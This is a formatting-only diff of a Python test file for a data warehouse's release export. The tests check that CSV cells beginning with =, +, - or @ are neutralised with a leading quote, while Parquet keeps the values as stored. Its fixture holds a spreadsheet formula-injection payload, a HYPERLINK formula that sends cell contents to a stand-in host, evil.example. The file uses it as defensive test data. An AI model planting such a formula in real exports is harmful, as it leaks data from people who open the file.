@@ -15,12 +15,19 @@ from pipelines.release import export as ex
 from scrapers.landing import LandingRun, record_hash
 from warehouse import db
 
-PROV = {"fetched_at": "2026-01-05T10:00:00Z", "spider": "s", "spider_version": "test", "raw_sha256": "0" * 64,
-        "mode": "snapshot"}
+PROV = {
+    "fetched_at": "2026-01-05T10:00:00Z",
+    "spider": "s",
+    "spider_version": "test",
+    "raw_sha256": "0" * 64,
+    "mode": "snapshot",
+}
 # title as stored -> the CSV cell a spreadsheet must see
 HOSTILE = {
-    "hyperlink": ('=HYPERLINK("http://evil.example/?leak="&A1;"Click")',
-                  '\'=HYPERLINK("http://evil.example/?leak="&A1;"Click")'),
+    "hyperlink": (
+        '=HYPERLINK("http://evil.example/?leak="&A1;"Click")',
+        '\'=HYPERLINK("http://evil.example/?leak="&A1;"Click")',
+    ),
     "plus": ("+1", "'+1"),
     "minus": ("-cmd", "'-cmd"),
     "at": ("@SUM(1)", "'@SUM(1)"),
@@ -42,9 +49,17 @@ def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
     data = tmp_path_factory.mktemp("wh")
     run = LandingRun(data / "landing", "s", "20260105T100000000000Z")
     for key in HOSTILE:
-        run.write_offer(_offer(key, title="placeholder", subjects=["=1+1", "Energy"], provider="@provider",
-                               price_amount=10, price_currency="EUR",
-                               learning_outcomes=[{"text": "-explain the formula"}]))
+        run.write_offer(
+            _offer(
+                key,
+                title="placeholder",
+                subjects=["=1+1", "Energy"],
+                provider="@provider",
+                price_amount=10,
+                price_currency="EUR",
+                learning_outcomes=[{"text": "-explain the formula"}],
+            )
+        )
     run.finish({"mcatlas/mode": "snapshot"}, "ok")
     path = data / "mcatlas.duckdb"
     with db.connect(path) as con:
@@ -77,8 +92,10 @@ def test_csv_cells_that_start_a_formula_are_neutralised(warehouse: Path, tmp_pat
     assert rows["minus"]["price_amount"] == "-12.5" and rows["plus"]["price_amount"] == "10.0"
     con = duckdb.connect()
     try:
-        typ, value = con.execute("select typeof(price_amount), price_amount from read_csv(?) where "
-                                 "source_id = 'minus'", [str(out / "data" / "offers.csv")]).fetchone()
+        typ, value = con.execute(
+            "select typeof(price_amount), price_amount from read_csv(?) where source_id = 'minus'",
+            [str(out / "data" / "offers.csv")],
+        ).fetchone()
     finally:
         con.close()
     assert typ == "DOUBLE" and value == -12.5
@@ -91,8 +108,11 @@ def test_parquet_keeps_the_values_as_they_are(warehouse: Path, tmp_path: Path) -
     ex.export_release(out, "parquet", db=warehouse)
     con = duckdb.connect()
     try:
-        titles = dict(con.execute("select source_id, title from read_parquet(?)",
-                                  [str(out / "data" / "offers.parquet")]).fetchall())
+        titles = dict(
+            con.execute(
+                "select source_id, title from read_parquet(?)", [str(out / "data" / "offers.parquet")]
+            ).fetchall()
+        )
     finally:
         con.close()
     assert titles == {k: title for k, (title, _) in HOSTILE.items()}
